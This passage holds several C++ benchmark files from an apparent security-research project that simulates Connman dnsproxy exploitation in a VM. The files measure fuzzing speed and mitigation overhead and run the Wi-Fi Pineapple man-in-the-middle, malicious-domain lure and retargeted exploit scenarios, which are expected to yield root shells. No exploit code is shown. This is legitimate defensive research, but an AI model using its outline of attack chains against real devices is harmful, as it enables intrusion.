      if (w == 1) w1_aggregate = s.execs_per_sec_aggregate;
      if (w == 8) w8_aggregate = s.execs_per_sec_aggregate;
      char key[40];
      std::snprintf(key, sizeof(key), "execs_per_sec_w%zu", w);
      json.Number(key, s.execs_per_sec_aggregate);
      std::snprintf(key, sizeof(key), "wall_execs_per_sec_w%zu", w);
      json.Number(key, s.execs_per_sec);
    }
    // The scaling headline: parallel efficiency of the 8-worker rung. The
    // regression gate holds this >= its baseline so the ladder can never
    // silently flatten back out.
    if (w1_aggregate > 0 && w8_aggregate > 0) {
      json.Number("speedup_w8", w8_aggregate / w1_aggregate);
    }
    json.WriteFile(json_path);
  }
}

}  // namespace

int main(int argc, char** argv) {
  const std::string json_path =
      benchout::TakeJsonFlag(argc, argv, "BENCH_fuzz.json");
  const std::size_t workers_flag = TakeWorkersFlag(argc, argv);
  if (!json_path.empty()) {
    // CI smoke mode: just the mode comparison + artifact, no microbenches.
    CompareModes(json_path, workers_flag);
    return 0;
  }
  PrintTable(workers_flag);
  CompareModes("", workers_flag);
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
