// E11 — fuzzing throughput: executions/second for the dnsproxy target,
// single- vs multi-worker, plus the determinism contract (identical root
// seed => identical merged coverage digest and crash buckets, regardless
// of worker scheduling).
// Table: execs/sec and scaling per worker count.
// Timing: single execution, single mutation, and a short campaign.
#include <benchmark/benchmark.h>

#include <cstdio>
#include <thread>

#include "src/fuzz/fuzzer.hpp"
#include "src/fuzz/mutator.hpp"

using namespace connlab;

namespace {

fuzz::FuzzConfig CampaignConfig(std::size_t workers, std::uint64_t execs) {
  fuzz::FuzzConfig config;
  config.target.kind = fuzz::TargetKind::kDnsproxy;
  config.seed = 42;
  config.max_execs = execs;
  config.workers = workers;
  config.minimize = false;
  return config;
}

void PrintTable() {
  std::printf("== E11: fuzzing throughput — dnsproxy, seed 42 ==\n");
  std::printf("host concurrency: %u thread(s)\n\n",
              std::thread::hardware_concurrency());
  std::printf("%8s %10s %12s %9s %8s  %s\n", "workers", "execs", "execs/sec",
              "speedup", "buckets", "coverage digest");
  std::printf("%s\n", std::string(72, '-').c_str());
  double single = 0;
  std::uint64_t single_digest = 0;
  for (const std::size_t workers : {1u, 2u, 4u}) {
    auto report = fuzz::Fuzzer(CampaignConfig(workers, 20000)).Run();
    if (!report.ok()) {
      std::printf("campaign failed: %s\n", report.status().ToString().c_str());
      return;
    }
    const fuzz::FuzzStats& s = report.value().stats;
    if (workers == 1) {
      single = s.execs_per_sec;
      single_digest = s.coverage_digest;
    }
    std::printf("%8zu %10llu %12.0f %8.2fx %8zu  %016llx\n", workers,
                static_cast<unsigned long long>(s.execs), s.execs_per_sec,
                single > 0 ? s.execs_per_sec / single : 0.0,
                report.value().triage.buckets().size(),
                static_cast<unsigned long long>(s.coverage_digest));
  }
  std::printf("\nWorkers are independent (Rng::Split streams, sharded budget,\n"
              "classified-OR coverage merge), so speedup tracks physical\n"
              "cores: expect >=2x at 4 workers on a 4-core host, and ~1x on\n"
              "a single-core host where the threads serialize.\n\n");

  // Determinism: the same (seed, workers) pair must reproduce the exact
  // merged coverage and bucket set run after run.
  auto a = fuzz::Fuzzer(CampaignConfig(4, 8000)).Run();
  auto b = fuzz::Fuzzer(CampaignConfig(4, 8000)).Run();
  if (a.ok() && b.ok()) {
    const bool digests =
        a.value().stats.coverage_digest == b.value().stats.coverage_digest;
    const bool buckets =
        a.value().triage.buckets().size() == b.value().triage.buckets().size();
    std::printf("determinism (4 workers, two runs): digest %s, buckets %s\n",
                digests ? "identical" : "DIVERGED",
                buckets ? "identical" : "DIVERGED");
    std::printf("1-worker vs 4-worker digest: %s (saturating campaign)\n\n",
                single_digest == a.value().stats.coverage_digest
                    ? "identical"
                    : "different");
  }
}

void BM_ExecuteBenignSeed(benchmark::State& state) {
  fuzz::TargetConfig config;
  auto target = fuzz::MakeTarget(config).value();
  const auto seeds = target->SeedCorpus();
  fuzz::CoverageMap map;
  for (auto _ : state) {
    benchmark::DoNotOptimize(target->Execute(seeds[0], map));
  }
}
BENCHMARK(BM_ExecuteBenignSeed);

void BM_MutateDnsInput(benchmark::State& state) {
  fuzz::TargetConfig config;
  auto target = fuzz::MakeTarget(config).value();
  const auto seeds = target->SeedCorpus();
  fuzz::Mutator mutator(util::Rng(1));
  const fuzz::MutationHint hint{target->fixed_prefix(), true, 8192};
  for (auto _ : state) {
    benchmark::DoNotOptimize(mutator.Mutate(seeds[0], hint, seeds[1]));
  }
}
BENCHMARK(BM_MutateDnsInput);

void BM_Campaign(benchmark::State& state) {
  const std::size_t workers = static_cast<std::size_t>(state.range(0));
  for (auto _ : state) {
    auto report = fuzz::Fuzzer(CampaignConfig(workers, 2000)).Run();
    benchmark::DoNotOptimize(report);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()) * 2000);
}
BENCHMARK(BM_Campaign)->Arg(1)->Arg(2)->Arg(4)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  PrintTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
