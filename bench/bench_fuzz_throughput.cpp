// E11 — fuzzing throughput: executions/second for the dnsproxy target,
// single- vs multi-worker, plus the determinism contract (identical root
// seed => identical merged coverage digest and crash buckets, regardless
// of worker scheduling).
// Table: execs/sec and scaling per worker count, plus legacy vs fast VM
// mode (predecode cache + snapshot reboots against the pre-PR byte-copying
// interpreter and full re-Boots).
// Timing: single execution, single mutation, and a short campaign.
// `--json[=path]` additionally writes BENCH_fuzz.json for CI, including an
// `execs_per_sec_w{1,2,4,8}` worker-scaling ladder; `--workers N` restricts
// both the table and the ladder to a single worker count.
#include <benchmark/benchmark.h>

#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include "bench/bench_json.hpp"
#include "src/fuzz/fuzzer.hpp"
#include "src/fuzz/mutator.hpp"

using namespace connlab;

namespace {

/// Strips `--workers N` / `--workers=N` from argv. Returns 0 when absent
/// (meaning: sweep the default 1/2/4/8 ladder).
std::size_t TakeWorkersFlag(int& argc, char** argv) {
  std::size_t workers = 0;
  int out = 1;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--workers" && i + 1 < argc) {
      workers = static_cast<std::size_t>(std::strtoul(argv[++i], nullptr, 10));
    } else if (arg.rfind("--workers=", 0) == 0) {
      workers = static_cast<std::size_t>(
          std::strtoul(arg.c_str() + sizeof("--workers=") - 1, nullptr, 10));
    } else {
      argv[out++] = argv[i];
    }
  }
  argc = out;
  return workers;
}

std::vector<std::size_t> WorkerSweep(std::size_t only) {
  if (only != 0) return {only};
  return {1, 2, 4, 8};
}

fuzz::FuzzConfig CampaignConfig(std::size_t workers, std::uint64_t execs) {
  fuzz::FuzzConfig config;
  config.target.kind = fuzz::TargetKind::kDnsproxy;
  config.seed = 42;
  config.max_execs = execs;
  config.workers = workers;
  config.minimize = false;
  return config;
}

/// The heap-class campaign: camstored execs carry allocator work (real
/// Alloc/Free walks in guest memory) on top of parsing, so this gauges the
/// guest-heap subsystem's cost, not just the HTTP front end.
fuzz::FuzzConfig HeapCampaignConfig(std::uint64_t execs) {
  fuzz::FuzzConfig config = CampaignConfig(1, execs);
  config.target.kind = fuzz::TargetKind::kCamstored;
  return config;
}

void PrintTable(std::size_t workers_flag) {
  std::printf("== E11: fuzzing throughput — dnsproxy, seed 42 ==\n");
  std::printf("host concurrency: %u thread(s)\n\n",
              std::thread::hardware_concurrency());
  std::printf("%8s %10s %12s %9s %8s  %s\n", "workers", "execs", "execs/sec",
              "speedup", "buckets", "coverage digest");
  std::printf("%s\n", std::string(72, '-').c_str());
  double single = 0;
  std::uint64_t single_digest = 0;
  for (const std::size_t workers : WorkerSweep(workers_flag)) {
    auto report = fuzz::Fuzzer(CampaignConfig(workers, 20000)).Run();
    if (!report.ok()) {
      std::printf("campaign failed: %s\n", report.status().ToString().c_str());
      return;
    }
    const fuzz::FuzzStats& s = report.value().stats;
    if (workers == 1) {
      single = s.execs_per_sec;
      single_digest = s.coverage_digest;
    }
    std::printf("%8zu %10llu %12.0f %8.2fx %8zu  %016llx\n", workers,
                static_cast<unsigned long long>(s.execs), s.execs_per_sec,
                single > 0 ? s.execs_per_sec / single : 0.0,
                report.value().triage.buckets().size(),
                static_cast<unsigned long long>(s.coverage_digest));
  }
  std::printf("\nWorkers are independent (Rng::Split streams, sharded budget,\n"
              "classified-OR coverage merge), so speedup tracks physical\n"
              "cores: expect >=2x at 4 workers on a 4-core host, and ~1x on\n"
              "a single-core host where the threads serialize.\n\n");

  // Determinism: the same (seed, workers) pair must reproduce the exact
  // merged coverage and bucket set run after run.
  auto a = fuzz::Fuzzer(CampaignConfig(4, 8000)).Run();
  auto b = fuzz::Fuzzer(CampaignConfig(4, 8000)).Run();
  if (a.ok() && b.ok()) {
    const bool digests =
        a.value().stats.coverage_digest == b.value().stats.coverage_digest;
    const bool buckets =
        a.value().triage.buckets().size() == b.value().triage.buckets().size();
    std::printf("determinism (4 workers, two runs): digest %s, buckets %s\n",
                digests ? "identical" : "DIVERGED",
                buckets ? "identical" : "DIVERGED");
    std::printf("1-worker vs 4-worker digest: %s (saturating campaign)\n\n",
                single_digest == a.value().stats.coverage_digest
                    ? "identical"
                    : "different");
  }
}

void BM_ExecuteBenignSeed(benchmark::State& state) {
  fuzz::TargetConfig config;
  auto target = fuzz::MakeTarget(config).value();
  const auto seeds = target->SeedCorpus();
  fuzz::CoverageMap map;
  for (auto _ : state) {
    benchmark::DoNotOptimize(target->Execute(seeds[0], map));
  }
}
BENCHMARK(BM_ExecuteBenignSeed);

void BM_MutateDnsInput(benchmark::State& state) {
  fuzz::TargetConfig config;
  auto target = fuzz::MakeTarget(config).value();
  const auto seeds = target->SeedCorpus();
  fuzz::Mutator mutator(util::Rng(1));
  const fuzz::MutationHint hint{target->fixed_prefix(), true, 8192};
  for (auto _ : state) {
    benchmark::DoNotOptimize(mutator.Mutate(seeds[0], hint, seeds[1]));
  }
}
BENCHMARK(BM_MutateDnsInput);

void BM_Campaign(benchmark::State& state) {
  const std::size_t workers = static_cast<std::size_t>(state.range(0));
  for (auto _ : state) {
    auto report = fuzz::Fuzzer(CampaignConfig(workers, 2000)).Run();
    benchmark::DoNotOptimize(report);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()) * 2000);
}
BENCHMARK(BM_Campaign)->Arg(1)->Arg(2)->Arg(4)->Unit(benchmark::kMillisecond);

/// Legacy vs fast VM mode on a 1-worker campaign: legacy = byte-copying
/// fetch/decode + full loader re-Boot per corruption; fast = predecode
/// cache + snapshot-restore reboots. Same seed, so the coverage digests
/// must match — the speedup is free only if behaviour is identical.
void CompareModes(const std::string& json_path, std::size_t workers_flag) {
  constexpr std::uint64_t kExecs = 20000;

  vm::Cpu::set_predecode_default(false);
  fuzz::FuzzConfig legacy_config = CampaignConfig(1, kExecs);
  legacy_config.target.fast_reset = false;
  auto legacy = fuzz::Fuzzer(legacy_config).Run();
  vm::Cpu::set_predecode_default(true);
  auto fast = fuzz::Fuzzer(CampaignConfig(1, kExecs)).Run();
  if (!legacy.ok() || !fast.ok()) {
    std::printf("mode comparison failed\n");
    return;
  }
  const fuzz::FuzzStats& ls = legacy.value().stats;
  const fuzz::FuzzStats& fs = fast.value().stats;
  const double speedup =
      ls.execs_per_sec > 0 ? fs.execs_per_sec / ls.execs_per_sec : 0;
  const bool digests_match = ls.coverage_digest == fs.coverage_digest;

  std::printf("== legacy vs fast VM mode — dnsproxy, 1 worker, seed 42 ==\n");
  std::printf("%-34s %12s %9s\n", "mode", "execs/sec", "reboots");
  std::printf("%s\n", std::string(58, '-').c_str());
  std::printf("%-34s %12.0f %9llu\n", "legacy (no cache, full re-Boot)",
              ls.execs_per_sec, static_cast<unsigned long long>(ls.reboots));
  std::printf("%-34s %12.0f %9llu\n", "fast (predecode + snapshot)",
              fs.execs_per_sec, static_cast<unsigned long long>(fs.reboots));
  std::printf("speedup: %.2fx, coverage digest %s\n\n", speedup,
              digests_match ? "identical" : "DIVERGED");

  auto heap = fuzz::Fuzzer(HeapCampaignConfig(kExecs)).Run();
  if (heap.ok()) {
    std::printf("heap-class campaign (camstored, 1 worker): %.0f execs/sec\n\n",
                heap.value().stats.execs_per_sec);
  }

  if (!json_path.empty()) {
    char digest[24];
    std::snprintf(digest, sizeof(digest), "%016llx",
                  static_cast<unsigned long long>(fs.coverage_digest));
    benchout::JsonWriter json;
    json.String("bench", "fuzz_throughput");
    json.String("target", "dnsproxy");
    json.Integer("execs", fs.execs);
    json.Number("execs_per_sec_legacy", ls.execs_per_sec);
    json.Number("execs_per_sec", fs.execs_per_sec);
    json.Number("speedup", speedup);
    json.Integer("reboots", fs.reboots);
    json.Bool("digest_matches_legacy", digests_match);
    json.String("coverage_digest", digest);
    if (heap.ok()) {
      json.Number("execs_per_sec_heap", heap.value().stats.execs_per_sec);
    }
    // Per-worker scaling ladder (shared decode plans + dirty-only restores
    // mean worker N's boot reuses worker 0's plans and each reboot copies
    // only touched pages). On a single-core runner these stay ~flat.
    for (const std::size_t w : WorkerSweep(workers_flag)) {
      auto scaled = fuzz::Fuzzer(CampaignConfig(w, kExecs)).Run();
      if (!scaled.ok()) continue;
      char key[32];
      std::snprintf(key, sizeof(key), "execs_per_sec_w%zu", w);
      json.Number(key, scaled.value().stats.execs_per_sec);
    }
    json.WriteFile(json_path);
  }
}

}  // namespace

int main(int argc, char** argv) {
  const std::string json_path =
      benchout::TakeJsonFlag(argc, argv, "BENCH_fuzz.json");
  const std::size_t workers_flag = TakeWorkersFlag(argc, argv);
  if (!json_path.empty()) {
    // CI smoke mode: just the mode comparison + artifact, no microbenches.
    CompareModes(json_path, workers_flag);
    return 0;
  }
  PrintTable(workers_flag);
  CompareModes("", workers_flag);
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
