// E12 — mitigation overhead on benign traffic (§IV cost side): what each
// defense costs a healthy device. For every standard policy the table
// reports the guest instructions one benign dnsproxy response retires and
// the host-side wall time per boot and per response; the BENCHMARK section
// then measures the same loops under the harness for calibrated timings.
//
// Expected shape: guest instruction counts are IDENTICAL across policies —
// the checks are modeled in the VM/runtime layer (hardware-CFI-style
// shadow bookkeeping in call/ret dispatch, host-side guard compare in the
// epilogue), not as extra guest code. The measurable costs are host-side:
// CFI's per-call/ret bookkeeping, the canary's one compare per frame, and
// diversity's boot-time shuffle + gap padding (per-response cost ~zero).
#include <benchmark/benchmark.h>

#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "src/adapt/camstored.hpp"
#include "src/connman/dnsproxy.hpp"
#include "src/defense/mitigation.hpp"
#include "src/dns/record.hpp"
#include "src/loader/boot.hpp"

using namespace connlab;

namespace {

/// One benign query/response round-trip; returns the guest instruction
/// count the response path retired (the delta on the CPU's lifetime
/// counter — a response runs several guest fragments, not one Run()).
std::uint64_t BenignResponseSteps(loader::System& sys,
                                  connman::DnsProxy& proxy, std::uint16_t id) {
  const std::uint64_t before = sys.cpu->steps_executed();
  dns::Message query = dns::Message::Query(id, "host.example");
  (void)proxy.AcceptClientQuery(dns::Encode(query).value());
  dns::Message response = dns::Message::ResponseFor(query);
  response.answers.push_back(dns::MakeA("host.example", "1.2.3.4"));
  (void)proxy.HandleServerResponse(dns::Encode(response).value());
  return sys.cpu->steps_executed() - before;
}

void PrintOverheadTable() {
  std::printf("== E12: per-mitigation overhead, benign dnsproxy workload ==\n");
  std::printf("%-6s %-10s %12s %14s %11s %12s\n", "arch", "defense", "boot us",
              "steps/resp", "us/resp", "overhead");
  std::printf("%s\n", std::string(70, '-').c_str());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    std::uint64_t baseline = 0;
    for (const defense::DefensePolicy& policy : defense::StandardPolicies()) {
      // Boot cost is host-side (image build + shuffle + gap padding);
      // average a handful of boots.
      constexpr int kBoots = 8;
      const auto t0 = std::chrono::steady_clock::now();
      for (int i = 0; i < kBoots; ++i) {
        auto warm = policy.BootHardened(
            arch, loader::ProtectionConfig::WxOnly(),
            /*seed=*/static_cast<std::uint64_t>(7 + i));
        benchmark::DoNotOptimize(warm);
      }
      const double boot_us =
          std::chrono::duration<double, std::micro>(
              std::chrono::steady_clock::now() - t0)
              .count() /
          kBoots;
      auto sys = policy.BootHardened(arch, loader::ProtectionConfig::WxOnly(),
                                     /*seed=*/7)
                     .value();
      connman::DnsProxy proxy(*sys, connman::Version::k134);
      // Warm one response, then average a small steady-state window.
      (void)BenignResponseSteps(*sys, proxy, 1);
      std::uint64_t steps = 0;
      constexpr int kRounds = 64;
      const auto r0 = std::chrono::steady_clock::now();
      for (int i = 0; i < kRounds; ++i) {
        steps += BenignResponseSteps(*sys, proxy,
                                     static_cast<std::uint16_t>(100 + i));
      }
      const double resp_us =
          std::chrono::duration<double, std::micro>(
              std::chrono::steady_clock::now() - r0)
              .count() /
          kRounds;
      steps /= kRounds;
      if (policy.empty()) baseline = steps;
      const double overhead =
          baseline > 0
              ? 100.0 * (static_cast<double>(steps) - baseline) / baseline
              : 0.0;
      std::printf("%-6s %-10s %12.1f %14llu %11.1f %+11.2f%%\n",
                  std::string(isa::ArchName(arch)).c_str(),
                  policy.Label().c_str(), boot_us,
                  static_cast<unsigned long long>(steps), resp_us, overhead);
    }
  }
  std::printf(
      "\nShape: every policy retires the SAME guest instruction count per\n"
      "benign response (+0.00%%) — the checks live in the VM/runtime layer\n"
      "(shadow-stack bookkeeping inside call/ret dispatch, guard-word\n"
      "compare in the epilogue), not in extra guest code, mirroring\n"
      "hardware CFI and a register-held canary. The real costs are\n"
      "host-side: per-call/ret shadow bookkeeping (CFI, see the timed\n"
      "BM_BenignResponseByDefense deltas), one compare per frame (canary),\n"
      "and boot-time re-randomisation (diversity — the boot column and\n"
      "BM_BootByDefense). Blocking all six attacks costs benign traffic\n"
      "effectively nothing.\n\n");
}

/// Heap-integrity cost on benign camstored traffic: every round is one
/// PUT (Alloc + copy) and one DELETE (Free), so the armed allocator pays
/// its canary + safe-unlink checks once per Free. The dnsproxy table
/// above cannot see this — its workload never touches the guest heap.
void PrintHeapIntegrityTable() {
  std::printf("== heap-integrity overhead, benign camstored workload ==\n");
  std::printf("%-6s %-12s %12s %11s %11s %12s\n", "arch", "allocator",
              "words/round", "word ovhd", "us/round", "time ovhd");
  std::printf("%s\n", std::string(68, '-').c_str());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    double baseline_us = 0;
    double baseline_words = 0;
    for (const bool integrity : {false, true}) {
      loader::ProtectionConfig prot = loader::ProtectionConfig::WxOnly();
      prot.heap_integrity = integrity;
      auto sys = loader::Boot(arch, prot, /*seed=*/7).value();
      adapt::Camstored cam(*sys);
      const auto put =
          adapt::Camstored::WrapInPut(util::Bytes(56, 'a'), "snap", 64);
      const auto del = adapt::Camstored::WrapInDelete("snap");
      // Warm the arena, the decode caches and the branch predictors: a
      // couple of cold rounds otherwise dominate a microsecond-scale loop.
      for (int i = 0; i < 64; ++i) {
        (void)cam.HandleRequest(put);
        (void)cam.HandleRequest(del);
      }
      // Best-of-N passes: the loop is ~1 us/round, so a scheduler
      // preemption inside a single pass would otherwise swamp the
      // allocator-check delta being measured.
      constexpr int kRounds = 4096;
      constexpr int kPasses = 5;
      double round_us = 0;
      const std::uint64_t ops_before = cam.heap().mem_ops();
      for (int pass = 0; pass < kPasses; ++pass) {
        const auto t0 = std::chrono::steady_clock::now();
        for (int i = 0; i < kRounds; ++i) {
          (void)cam.HandleRequest(put);
          (void)cam.HandleRequest(del);
        }
        const double pass_us =
            std::chrono::duration<double, std::micro>(
                std::chrono::steady_clock::now() - t0)
                .count() /
            kRounds;
        if (pass == 0 || pass_us < round_us) round_us = pass_us;
      }
      // Deterministic cost: allocator guest-memory words touched per
      // PUT+DELETE round. Wall time rides along but is runner-noisy.
      const double words =
          static_cast<double>(cam.heap().mem_ops() - ops_before) /
          (kRounds * kPasses);
      if (!integrity) {
        baseline_us = round_us;
        baseline_words = words;
      }
      const double word_overhead =
          baseline_words > 0 ? 100.0 * (words - baseline_words) / baseline_words
                             : 0.0;
      const double overhead =
          baseline_us > 0 ? 100.0 * (round_us - baseline_us) / baseline_us
                          : 0.0;
      std::printf("%-6s %-12s %12.1f %+10.2f%% %11.2f %+11.2f%%\n",
                  std::string(isa::ArchName(arch)).c_str(),
                  integrity ? "hardened" : "stock", words, word_overhead,
                  round_us, overhead);
    }
  }
  std::printf(
      "\nShape: the armed Free() adds a guard-word compare, a size\n"
      "plausibility check, and the fd->bk/bk->fd safe-unlink probes — a\n"
      "fixed handful of extra guest-memory words per operation (the\n"
      "deterministic words/round column), which is small next to the copy\n"
      "work a PUT already does, so wall time moves only a few percent.\n"
      "Heap integrity is the one defense in the grid that stops the\n"
      "camstored unlink exploit, and this table is its price tag.\n\n");
}

/// state.range(0) indexes into StandardPolicies(): 0=none 1=canary 2=CFI
/// 3=diversity 4=all.
void BM_BenignResponseByDefense(benchmark::State& state) {
  const std::vector<defense::DefensePolicy> policies =
      defense::StandardPolicies();
  const defense::DefensePolicy& policy =
      policies[static_cast<std::size_t>(state.range(0))];
  auto sys = policy.BootHardened(isa::Arch::kVARM,
                                 loader::ProtectionConfig::WxOnly(), 7)
                 .value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  std::uint16_t id = 1;
  std::uint64_t steps = 0;
  for (auto _ : state) {
    steps += BenignResponseSteps(*sys, proxy, id++);
  }
  state.SetItemsProcessed(state.iterations());
  state.SetLabel(policy.Label() + ", " +
                 std::to_string(state.iterations() > 0
                                    ? steps / state.iterations()
                                    : 0) +
                 " guest steps/resp");
}
BENCHMARK(BM_BenignResponseByDefense)->DenseRange(0, 4);

void BM_BootByDefense(benchmark::State& state) {
  const std::vector<defense::DefensePolicy> policies =
      defense::StandardPolicies();
  const defense::DefensePolicy& policy =
      policies[static_cast<std::size_t>(state.range(0))];
  std::uint64_t seed = 0;
  for (auto _ : state) {
    auto sys = policy.BootHardened(isa::Arch::kVARM,
                                   loader::ProtectionConfig::WxOnly(), seed++);
    benchmark::DoNotOptimize(sys);
  }
  state.SetItemsProcessed(state.iterations());
  state.SetLabel(policy.Label());
}
BENCHMARK(BM_BootByDefense)->DenseRange(0, 4)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  PrintOverheadTable();
  PrintHeapIntegrityTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
