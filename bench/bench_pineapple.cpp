// E6 — the remote man-in-the-middle experiment (Fig. 1, §III-D): the
// Pineapple chain per (arch, protection level), plus the patched-firmware
// control row.
// Timing: full remote scenario (network sim + attack).
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/attack/report.hpp"
#include "src/attack/scenario.hpp"

using namespace connlab;

namespace {

void PrintRemoteTable() {
  std::printf("== E6: Wi-Fi Pineapple remote attacks (paper §III-D) ==\n");
  std::printf("%-6s %-14s %-18s %-8s %-8s %-10s %s\n", "arch", "protections",
              "version", "benign", "roamed", "intercept", "outcome");
  std::printf("%s\n", std::string(86, '-').c_str());

  struct Case {
    isa::Arch arch;
    loader::ProtectionConfig prot;
    connman::Version version;
  };
  const Case cases[] = {
      {isa::Arch::kVX86, loader::ProtectionConfig::None(), connman::Version::k134},
      {isa::Arch::kVARM, loader::ProtectionConfig::None(), connman::Version::k134},
      {isa::Arch::kVARM, loader::ProtectionConfig::WxOnly(), connman::Version::k134},
      {isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), connman::Version::k134},
      {isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), connman::Version::k135},
  };
  for (const Case& c : cases) {
    attack::ScenarioConfig config;
    config.arch = c.arch;
    config.prot = c.prot;
    config.version = c.version;
    auto remote = attack::RunPineappleScenario(config);
    if (!remote.ok()) {
      std::printf("scenario failed: %s\n", remote.status().ToString().c_str());
      continue;
    }
    const attack::RemoteResult& r = remote.value();
    std::printf("%-6s %-14s %-18s %-8s %-8s %-10llu %s\n",
                std::string(isa::ArchName(c.arch)).c_str(),
                c.prot.ToString().c_str(),
                std::string(connman::VersionName(c.version)).c_str(),
                r.benign_resolution_before ? "ok" : "FAIL",
                r.roamed_to_rogue ? "yes" : "no",
                static_cast<unsigned long long>(r.queries_intercepted),
                r.attack.OutcomeLabel().c_str());
  }
  std::printf("\nExpected shape: the x86 feasibility row and all three ARM\n"
              "rows end in ROOT SHELL with zero victim-side configuration\n"
              "changes; the patched row survives the identical chain.\n\n");

  // The second delivery class §III-D describes: a malicious domain, no
  // rogue AP — the exploit rides the legitimate resolver's forwarding.
  std::printf("== E6b: malicious-domain lure (no rogue AP) ==\n");
  std::printf("%-6s %-14s %-18s %-10s %s\n", "arch", "protections",
              "version", "forwarded", "outcome");
  std::printf("%s\n", std::string(66, '-').c_str());
  for (connman::Version version :
       {connman::Version::k134, connman::Version::k135}) {
    attack::ScenarioConfig config;
    config.arch = isa::Arch::kVARM;
    config.prot = loader::ProtectionConfig::WxAslr();
    config.version = version;
    auto lure = attack::RunLureScenario(config);
    if (!lure.ok()) continue;
    std::printf("%-6s %-14s %-18s %-10llu %s\n", "varm", "W^X+ASLR",
                std::string(connman::VersionName(version)).c_str(),
                static_cast<unsigned long long>(lure.value().forwarded),
                lure.value().attack.OutcomeLabel().c_str());
  }
  std::printf("\nExpected shape: the vulnerable build is shelled through its\n"
              "own trusted resolver; only the patch helps — network position\n"
              "is not required, merely an induced lookup.\n\n");
}

void BM_PineappleScenario(benchmark::State& state) {
  attack::ScenarioConfig config;
  config.arch = static_cast<isa::Arch>(state.range(0));
  config.prot = state.range(1) != 0 ? loader::ProtectionConfig::WxAslr()
                                    : loader::ProtectionConfig::None();
  for (auto _ : state) {
    auto remote = attack::RunPineappleScenario(config);
    benchmark::DoNotOptimize(remote);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_PineappleScenario)
    ->ArgsProduct({{0, 1}, {0, 1}})
    ->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  PrintRemoteTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
