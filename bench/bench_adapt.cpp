// E9 — §V adaptation: the retargeted exploits against minimasq (DNS) and
// httpcamd (HTTP), across both architectures and all protection levels.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/adapt/retarget.hpp"

using namespace connlab;

namespace {

void PrintAdaptTable() {
  std::printf("== E9: exploit adaptation to other services (paper §V) ==\n");
  std::printf("%-10s %-6s %-14s %-18s %8s  %s\n", "service", "arch",
              "protections", "technique", "payload", "outcome");
  std::printf("%s\n", std::string(78, '-').c_str());
  const loader::ProtectionConfig levels[] = {
      loader::ProtectionConfig::None(),
      loader::ProtectionConfig::WxOnly(),
      loader::ProtectionConfig::WxAslr(),
  };
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (const auto& prot : levels) {
      for (int service = 0; service < 2; ++service) {
        auto result = service == 0 ? adapt::AttackMinimasq(arch, prot)
                                   : adapt::AttackHttpCamd(arch, prot);
        if (!result.ok()) {
          std::printf("error: %s\n", result.status().ToString().c_str());
          continue;
        }
        const adapt::AdaptResult& r = result.value();
        std::printf("%-10s %-6s %-14s %-18s %8zu  %s\n", r.service.c_str(),
                    std::string(isa::ArchName(arch)).c_str(),
                    prot.ToString().c_str(),
                    std::string(exploit::TechniqueName(r.technique)).c_str(),
                    r.payload_bytes,
                    std::string(adapt::ServiceOutcomeKindName(r.kind)).c_str());
      }
    }
  }
  std::printf("\nExpected shape: every row ends in root-shell — the payload\n"
              "arithmetic ports unchanged; only the TargetProfile offsets\n"
              "(minimal modification) or the delivery framing (moderate\n"
              "modification) differ. Note the smaller payloads: both\n"
              "services have smaller frames than Connman's.\n\n");
}

void BM_AttackMinimasq(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  for (auto _ : state) {
    auto result =
        adapt::AttackMinimasq(arch, loader::ProtectionConfig::WxAslr());
    benchmark::DoNotOptimize(result);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_AttackMinimasq)->Arg(0)->Arg(1)->Unit(benchmark::kMillisecond);

void BM_AttackHttpCamd(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  for (auto _ : state) {
    auto result =
        adapt::AttackHttpCamd(arch, loader::ProtectionConfig::WxAslr());
    benchmark::DoNotOptimize(result);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_AttackHttpCamd)->Arg(0)->Arg(1)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  PrintAdaptTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
