// E13/E20 — VM hot-path throughput ladder: interpreter steps/second up the
// execution tiers — legacy fetch/decode, predecode cache, bare superblocks
// (self-loops only) and linked superblocks (block chaining + host-fn/syscall
// continuation) — measured on the paper's x86 ROP chain replay and on a
// tight arithmetic loop, plus the cost of a loader Boot vs a snapshot
// restore (the fuzzer's fast reboot).
// Table: steps/sec per tier with speedups; boot vs restore microseconds,
// full-copy vs dirty-page-only restores on a lightly-dirtied image.
// Timing: single ROP delivery, Boot, TakeSnapshot and RestoreSnapshot
// (full and dirty-only).
// `--json[=path]` additionally writes BENCH_vm.json for CI.
#include <benchmark/benchmark.h>

#include <chrono>
#include <cstdio>
#include <string>

#include "bench/bench_json.hpp"
